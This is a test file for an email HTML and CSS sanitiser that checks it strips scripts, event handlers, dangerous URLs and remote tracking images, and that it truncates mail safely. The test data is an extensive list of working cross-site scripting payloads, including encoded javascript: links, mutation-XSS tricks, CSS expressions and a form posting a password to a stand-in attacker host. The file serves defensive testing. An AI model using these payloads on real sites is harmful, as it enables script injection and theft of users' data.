import { describe, expect, it } from 'vitest';
import { inlineContentIds, sanitizeHtml } from '../../../src/graphql/html/sanitize-html.ts';
import { remoteFilesInCss, sanitizeStyle } from '../../../src/graphql/html/sanitize-style.ts';

const inlineLink = 'https://gateway.example.test/attachments/1?link=2&inline=1';
const options = { inlineImage: (id: string) => (id === 'logo@mail' ? inlineLink : undefined) };
const clean = (html: string): string => sanitizeHtml(html, options).html;

const harmlessTag = /<\/?([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)( \/)?>/g;
const forbiddenElements =
  /^(script|style|iframe|frame|object|embed|applet|form|input|button|select|textarea|meta|link|base|svg|math|template|video|audio|source|xmp|noscript|plaintext)$/;

/** What is left in sanitised HTML that a browser could act on; reads it with nothing of the sanitiser's own. */
const dangers = (html: string): readonly string[] => {
  const found: string[] = [];
  for (const [tag, name = '', attributes = ''] of html.matchAll(harmlessTag)) {
    if (forbiddenElements.test(name)) found.push(tag);
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      if (/^on|^(id|name|class|action|formaction|background|srcset|poster|data|ping|srcdoc)$/.test(attribute))
        found.push(tag);
      if (attribute === 'href' && !/^(https?:\/\/|mailto:|tel:)/.test(value)) found.push(tag);
      if (
        attribute === 'src' &&
        value !== inlineLink.replaceAll('&', '&amp;') &&
        !/^data:image\/(png|gif|jpeg);base64,/.test(value)
      )
        found.push(tag);
      if (attribute === 'style' && /url|expression|position|behaviou?r|binding|import|[\\@<>{}]|-\d/i.test(value))
        found.push(tag);
    }
  }
  // Whatever is no well-formed harmless tag must not begin one.
  if (html.replace(harmlessTag, '').includes('<')) found.push('a stray <');
  return found;
};

const vectors: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<script\u0000>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="a">',
  '<img/src=x/onerror=alert(1) alt=a>',
  '<img src=javascript:alert(1) alt=a>',
  '<img """><script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt=a>',
  '<img src="data:text/html,<script>alert(1)</script>" alt=a>',
  '<img srcset="https://evil.example/a.png 1x" alt=a>',
  '<img lowsrc="javascript:alert(1)" alt=a>',
  '<img alt="<script>alert(1)</script>" src=x>',
  "<img alt='\"><script>alert(1)</script>' src=x>",
  '<body onload=alert(1)>text</body>',
  '<div onclick="alert(1)" onmouseover=alert(1)>x</div>',
  '<p oNcLiCk="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="//evil.example/x">x</a>',
  '<a href="/account/delete">x</a>',
  '<a href="https://good.example" onfocus=alert(1) autofocus ping="https://evil.example">x</a>',
  '<a href="https://good.example" target=_top rel=opener>x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset onload=alert(1)><frame src=x></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<applet code="x.class"></applet>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type=image src=x onerror=alert(1)>',
  '<isindex action="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<video poster="javascript:alert(1)"><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="width:exp/**/ression(alert(1))">x</div>',
  '<div style="behavior:url(#default#time2)">x</div>',
  '<div style="-moz-binding:url(https://evil.example/x.xml#a)">x</div>',
  '<div style="background:u\\72l(https://evil.example)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="margin:-9999px">x</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  '<div id=location name=cookie class=admin>x</div>',
  '<table background="javascript:alert(1)"><tr><td background=x>x</td></tr></table>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html SYSTEM "https://evil.example/x.dtd">x',
  '<p title="x" onclick=alert(1) title=">y<script>alert(1)</script>">x</p>',
  '"><script>alert(1)</script>',
  '<a href="https://good.example/"><script>alert(1)</script></a>',
];

describe('sanitising HTML', () => {
  it.each(vectors)('leaves nothing to act on of %s', (vector) => {
    expect(dangers(clean(vector))).toEqual([]);
    expect(dangers(clean(`<div><p>before ${vector} after</p></div>`))).toEqual([]);
    // What is shown may be sanitised again by its reader without a change.
    expect(clean(clean(vector))).toBe(clean(vector));
  });

  it('would see a danger if one were left', () => {
    for (const html of [
      '<script>',
      '<p onclick="x">',
      '<a href="javascript:x">',
      '<p style="position:fixed">',
      '<p <b>',
    ])
      expect(dangers(html)).not.toEqual([]);
  });

  it('keeps text, structure, tables and harmless styles', () => {
    const html =
      '<h1 style="color:#1F497D">Offer</h1><p align="right">for <b>you</b> &amp; <i>yours</i></p><table border="1" cellpadding="2"><tr><td colspan="2" bgcolor="#eee" style="padding:0 5.4pt;font-family:\'Segoe UI\',sans-serif">1</td></tr></table><ol start="3"><li>x</li></ol>';
    expect(clean(html)).toBe(html);
  });

  it('opens links in a window of their own that knows nothing of this one', () => {
    expect(clean('<a href="https://good.example/x?a=1&b=2" target="_self" rel="opener">x</a>')).toBe(
      '<a href="https://good.example/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(clean('<a href="mailto:ann@example.test">x</a>')).toContain('href="mailto:ann@example.test"');
    expect(clean('<a href="#top">x</a>')).toBe('<a>x</a>');
  });

  it.each([
    ['<img src="https://t.example/pixel.gif">', 1],
    ['<img src="//t.example/pixel.gif">', 1],
    ['<img src="http:\\\\t.example/pixel.gif">', 1],
    ['<img src="ht\ntps://t.example/pixel.gif">', 1],
    ['<img src="https://t.example/1.gif" srcset="https://t.example/2.gif 2x">', 1],
    ['<img srcset="a.png 1x, https://t.example/2.gif 2x">', 1],
    ['<table background="https://t.example/x.png"><tr><td background="http://t.example/y.png">x</td></tr></table>', 2],
    ['<div style="background:url(https://t.example/x.png)">x</div>', 1],
    ['<div style="background-image:u\\72l( \'//t.example/x.png\')">x</div>', 1],
    ['<style>a{background:url(https://t.example/a)} b{background:url("http://t.example/b")}</style>', 2],
    ['<svg><image href="https://t.example/a.png"/><image xlink:href="https://t.example/b.png"/></svg>', 2],
    ['<video poster="https://t.example/x.jpg"></video>', 1],
    ['<input type="image" src="https://t.example/x.png">', 1],
    ['<img src="cid:logo@mail"><img src="local.png"><a href="https://good.example">x</a>', 0],
    ['<script src="https://t.example/x.js"></script>', 0],
  ])('blocks remote pictures and counts them: %s', (html, expected) => {
    const { html: shown, remoteImagesBlocked } = sanitizeHtml(html, options);
    expect(remoteImagesBlocked).toBe(expected);
    expect(shown).not.toMatch(/t\.example/);
  });

  it('leaves the words of a blocked picture, and nothing of one without words', () => {
    expect(clean('<p>a<img src="https://t.example/x.gif" alt="Logo" width="5">b</p>')).toBe(
      '<p>a<img width="5" alt="Logo" />b</p>',
    );
    expect(clean('<p>a<img src="https://t.example/x.gif" width="1" height="1">b</p>')).toBe('<p>ab</p>');
  });

  it('shows inline pictures by the address that it is given, and drops unknown ones', () => {
    expect(clean('<img src="cid:logo%40mail" alt="Logo">')).toBe(
      `<img src="${inlineLink.replace('&', '&amp;')}" alt="Logo" />`,
    );
    expect(clean('<p><img src="cid:unknown@mail"></p>')).toBe('<p></p>');
    expect(clean('<img src="data:image/png;base64,AAAA">')).toBe('<img src="data:image/png;base64,AAAA" />');
  });

  it('names the inline pictures of a mail, each once', () => {
    expect(inlineContentIds('<img src="cid:a%40b"><img src=CID:c><img src="cid:a%40b"><p>acid:x</p>')).toEqual([
      'a@b',
      'c',
    ]);
  });

  it('cuts at the size asked for, closes what it cuts, and says so', () => {
    const html = `<div><p style="color:red">${'é &amp; '.repeat(50)}</p><b>end</b></div>`;
    for (const maxBytes of [1, 20, 60, 61, 62, 63, 64, 65, 100, 399]) {
      const { html: cut, truncated } = sanitizeHtml(html, { ...options, maxBytes });
      expect(Buffer.byteLength(cut)).toBeLessThanOrEqual(maxBytes);
      expect(truncated).toBe(true);
      expect(clean(cut)).toBe(cut);
      expect(cut).not.toContain('\uFFFD');
      expect(cut).not.toMatch(/&(?!amp;)/);
    }
    expect(sanitizeHtml(html, { ...options, maxBytes: 100 }).html).toMatch(
      /^<div><p style="color:red">é &amp; .*<\/p><\/div>$/,
    );
    expect(sanitizeHtml(html, { ...options, maxBytes: 10_000 })).toMatchObject({ html, truncated: false });
  });

  it('keeps links to inline pictures when it cuts behind them', () => {
    const html = `<img src="cid:logo@mail">${'<p>text</p>'.repeat(100)}`;
    expect(sanitizeHtml(html, { ...options, maxBytes: 200 }).html).toContain(inlineLink.replace('&', '&amp;'));
  });

  it('looks at one megabyte at most', () => {
    const { html, truncated } = sanitizeHtml(`${'<p>0123456789</p>'.repeat(80_000)}`, options);
    expect(truncated).toBe(true);
    expect(Buffer.byteLength(html)).toBeLessThanOrEqual(1_000_100);
  });

  it('cuts mail that nests deeper than the parser can bear instead of stopping for it', () => {
    const { html, truncated } = sanitizeHtml(`<p>first</p>${'<div>'.repeat(150_000)}deep`, options);
    expect(truncated).toBe(true);
    expect(html).toContain('<p>first</p>');
    expect(sanitizeHtml(`${'<div>'.repeat(400)}deep${'</div>'.repeat(400)}`, options)).toMatchObject({
      truncated: false,
    });
  });
});

describe('sanitising styles', () => {
  it.each([
    ['color: red; FONT-SIZE: 12pt', 'color:red;font-size:12pt'],
    ['color:rgb(1, 2, 3) !important', 'color:rgb(1, 2, 3) !important'],
    ['margin-left:36pt;text-indent:-18pt', 'margin-left:36pt;text-indent:-18pt'],
    ['color:red;position:absolute;z-index:9', 'color:red'],
    ['font-family:"a;color:blue;b"', 'color:blue'],
    ["font-family:'a", ''],
    ['width:calc(1px - 9999px)', ''],
    ['color:var(--x);content:"x"', ''],
    ['mso-style-name:x;color', ''],
    [`color:${'a'.repeat(300)}`, ''],
  ])('%s becomes %s', (style, expected) => {
    expect(sanitizeStyle(style)).toBe(expected);
  });

  it('counts what CSS would load from elsewhere, however it is written', () => {
    expect(
      remoteFilesInCss(
        'a{background:URL( "HTTPS://x" )} b{background:image-set("//y" 1x)} c{background:url(local.png)}',
      ),
    ).toBe(2);
    expect(remoteFilesInCss(`a{background:url(${' '.repeat(500_000)}`)).toBe(0);
  });
});
